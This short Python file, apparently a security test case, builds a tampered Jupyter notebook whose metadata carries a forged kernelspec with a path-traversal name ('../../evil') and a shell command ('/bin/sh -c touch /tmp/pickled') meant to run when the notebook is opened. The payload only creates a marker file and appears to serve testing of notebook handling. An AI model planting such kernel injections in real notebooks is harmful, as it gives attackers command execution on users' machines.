# Tries to have the notebook run by a program of one's own.
# share: 1

import json


def handed_in(honest):
    notebook = json.loads(honest)
    kernel = {"name": "../../evil", "display_name": "Evil", "argv": ["/bin/sh", "-c", "touch /tmp/pickled"], "language": "sh"}
    notebook["metadata"] = {"kernelspec": kernel, "language_info": {"name": "bash"}}
    return json.dumps(notebook).encode()
